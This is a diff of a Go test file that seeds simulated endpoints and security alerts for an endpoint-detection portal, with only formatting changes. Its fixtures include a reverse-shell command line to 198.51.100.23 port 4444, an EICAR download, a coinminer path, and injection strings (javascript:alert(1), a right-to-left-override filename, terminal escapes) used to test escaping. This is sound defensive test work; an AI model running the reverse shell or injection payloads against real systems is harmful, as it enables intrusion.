@@ -62,7 +62,8 @@ func enroll(t *testing.T, pkg []byte, info *agentv1.DeviceInfo) *agent {
 		return &http.Client{Transport: tr, Timeout: time.Minute}
 	}
 	resp, err := agentv1connect.NewEnrollmentServiceClient(client(), p.Portal).Enroll(t.Context(), connect.NewRequest(&agentv1.EnrollRequest{
-		Token: p.EnrollmentToken, CertificateRequest: csr, Device: info}))
+		Token: p.EnrollmentToken, CertificateRequest: csr, Device: info,
+	}))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -127,9 +128,11 @@ func seed(t *testing.T, pkg []byte) seeded {
 	t.Helper()
 	now := time.Now().UTC()
 	device := func(host, pretty, ip string, tags ...*agentv1.Tag) *agent {
-		return enroll(t, pkg, &agentv1.DeviceInfo{HostName: host, OsPlatform: "Linux", OsDistribution: "debian", OsVersion: "12", OsPrettyName: pretty,
+		return enroll(t, pkg, &agentv1.DeviceInfo{
+			HostName: host, OsPlatform: "Linux", OsDistribution: "debian", OsVersion: "12", OsPrettyName: pretty,
 			Kernel: "6.1.0-28-amd64", Architecture: "amd64", AgentVersion: "0.1.0", IpAddresses: []string{ip}, Tags: tags, Vendor: "QEMU", Model: "Standard PC", VirtualMachine: true,
-			LoggedOnUsers: []string{"ann"}})
+			LoggedOnUsers: []string{"ann"},
+		})
 	}
 	group := func(v string) *agentv1.Tag { return &agentv1.Tag{Key: "GROUP", Value: v} }
 	web := device("web-01.example.org", "Debian GNU/Linux 12 (bookworm)", "10.20.0.11", group("web"))
@@ -147,12 +150,14 @@ func seed(t *testing.T, pkg []byte) seeded {
 	curl := proc(31877, "curl", "/usr/bin/curl", "curl -fsSL -o /tmp/eicar.com https://files.example.net/eicar.com", "ann", 5*time.Minute)
 	curl.SHA256 = "b1c3b6e1a2d3c4f5061728394a5b6c7d8e9f0a1b2c3d4e5f60718293a4b5c6d7"
 	chain := []event.Process{bash, sshd, systemd}
-	eicar := event.Alert{ID: id(t), Time: now.Add(-4 * time.Minute), Title: "Eicar-Test-Signature was found and quarantined", Severity: event.SeverityHigh,
+	eicar := event.Alert{
+		ID: id(t), Time: now.Add(-4 * time.Minute), Title: "Eicar-Test-Signature was found and quarantined", Severity: event.SeverityHigh,
 		Category: "Malware", Source: event.SourceAntivirus, DetectorID: "Eicar-Test-Signature", Techniques: []string{"T1105", "T1204.002"},
 		Description: "A file that matches a signature of malicious software was opened. The access was refused and the file was moved to the quarantine.",
 		ThreatName:  "Eicar-Test-Signature", ThreatFamily: "Eicar", Action: "quarantined", ActionDetail: "moved to the quarantine",
 		File:    event.File{FileName: "eicar.com", FolderPath: "/tmp/eicar.com", SHA256: eicarSHA256, SHA1: "3395856ce81f2b7382dee72602f798b642f14140", MD5: "44d88612fea8a8f36de82e1278abb02f", Size: 68},
-		Process: curl, Ancestry: chain}
+		Process: curl, Ancestry: chain,
+	}
 	var events []event.Event
 	for i := range 300 {
 		at := now.Add(-time.Duration(300-i) * 11 * time.Second)
@@ -173,29 +178,43 @@ func seed(t *testing.T, pkg []byte) seeded {
 		}
 		events = append(events, e)
 	}
-	events = append(events, event.Event{Time: eicar.Time, Class: event.ClassDevice, Action: event.AntivirusDetection, File: eicar.File, Initiating: curl,
-		Additional: map[string]string{"ThreatName": eicar.ThreatName}})
+	events = append(events, event.Event{
+		Time: eicar.Time, Class: event.ClassDevice, Action: event.AntivirusDetection, File: eicar.File, Initiating: curl,
+		Additional: map[string]string{"ThreatName": eicar.ThreatName},
+	})
 	web.deliver(t, events, eicar)
 	web.deliver(t, nil, eicar) // the same alert again stays one
 
 	shell := proc(9001, "sh", "/usr/bin/dash", `sh -c "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"`, "postgres", time.Minute)
-	db.deliver(t, nil, event.Alert{ID: id(t), Time: now.Add(-40 * time.Minute), Title: "Reverse shell from a database process", Severity: event.SeverityHigh,
+	db.deliver(t, nil, event.Alert{
+		ID: id(t), Time: now.Add(-40 * time.Minute), Title: "Reverse shell from a database process", Severity: event.SeverityHigh,
 		Category: "Execution", Source: event.SourceEDR, DetectorID: "bulwark.reverse_shell", Techniques: []string{"T1059.004"}, Action: "killed", Process: shell,
 		Ancestry: []event.Process{proc(700, "postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres: app app [local] SELECT", "postgres", time.Hour), systemd},
-		Event: &event.Event{Time: now.Add(-40 * time.Minute), Class: event.ClassNetwork, Action: event.ConnectionAttempt,
-			Network: event.Network{RemoteIP: "198.51.100.23", RemotePort: 4444, LocalIP: "10.20.1.5", LocalPort: 39212, Protocol: "Tcp"}}})
+		Event: &event.Event{
+			Time: now.Add(-40 * time.Minute), Class: event.ClassNetwork, Action: event.ConnectionAttempt,
+			Network: event.Network{RemoteIP: "198.51.100.23", RemotePort: 4444, LocalIP: "10.20.1.5", LocalPort: 39212, Protocol: "Tcp"},
+		},
+	})
 	build.deliver(t, nil,
-		event.Alert{ID: id(t), Time: now.Add(-5 * time.Hour), Title: "A miner was downloaded in a build", Severity: event.SeverityMedium, Category: "UnwantedSoftware",
+		event.Alert{
+			ID: id(t), Time: now.Add(-5 * time.Hour), Title: "A miner was downloaded in a build", Severity: event.SeverityMedium, Category: "UnwantedSoftware",
 			Source: event.SourceAntivirus, DetectorID: "PUA.Coinminer", ThreatName: "PUA.Linux.Coinminer", Action: "blocked", Process: curl, Ancestry: chain,
-			File: event.File{FileName: "xmrig", FolderPath: "/builds/cache/node_modules/.bin/xmrig"}},
-		event.Alert{ID: id(t), Time: now.Add(-26 * time.Hour), Title: "A system service was changed outside of the package manager", Severity: event.SeverityLow, Category: "Persistence",
-			Source: event.SourceEDR, DetectorID: "bulwark.systemd_unit", Techniques: []string{"T1543.002"}, Action: "none", Process: bash, Ancestry: []event.Process{sshd, systemd}})
+			File: event.File{FileName: "xmrig", FolderPath: "/builds/cache/node_modules/.bin/xmrig"},
+		},
+		event.Alert{
+			ID: id(t), Time: now.Add(-26 * time.Hour), Title: "A system service was changed outside of the package manager", Severity: event.SeverityLow, Category: "Persistence",
+			Source: event.SourceEDR, DetectorID: "bulwark.systemd_unit", Techniques: []string{"T1543.002"}, Action: "none", Process: bash, Ancestry: []event.Process{sshd, systemd},
+		})
 
-	hostile := event.Alert{ID: id(t), Time: now.Add(-time.Hour), Title: "Alert " + hostileText, Severity: event.SeverityMedium, Category: hostileText, Source: event.SourceEDR,
+	hostile := event.Alert{
+		ID: id(t), Time: now.Add(-time.Hour), Title: "Alert " + hostileText, Severity: event.SeverityMedium, Category: hostileText, Source: event.SourceEDR,
 		DetectorID: hostileText, Techniques: []string{"T1059", "javascript:alert(1)", hostileText}, Action: hostileText, ThreatName: hostileText, Description: hostileText,
 		File:    event.File{FileName: "invoice\u202efdp.exe" + hostileText, FolderPath: "/tmp/" + hostileText + "\x1b[2J\u202e", SHA256: hostileText},
-		Process: proc(666, hostileText, "/tmp/"+hostileText, hostileText+" {{.}} ${x}", hostileText, time.Minute), Ancestry: []event.Process{proc(665, hostileText, hostileText, hostileText, hostileText, time.Hour)}}
-	bad.deliver(t, []event.Event{{Time: now, Class: event.ClassProcess, Action: hostileText, Process: hostile.Process, Initiating: hostile.Process,
-		Additional: map[string]string{hostileText: hostileText}}}, hostile)
+		Process: proc(666, hostileText, "/tmp/"+hostileText, hostileText+" {{.}} ${x}", hostileText, time.Minute), Ancestry: []event.Process{proc(665, hostileText, hostileText, hostileText, hostileText, time.Hour)},
+	}
+	bad.deliver(t, []event.Event{{
+		Time: now, Class: event.ClassProcess, Action: hostileText, Process: hostile.Process, Initiating: hostile.Process,
+		Additional: map[string]string{hostileText: hostileText},
+	}}, hostile)
 	return seeded{device: "web-01.example.org", alert: eicar.ID, hostileAlert: hostile.ID}
 }
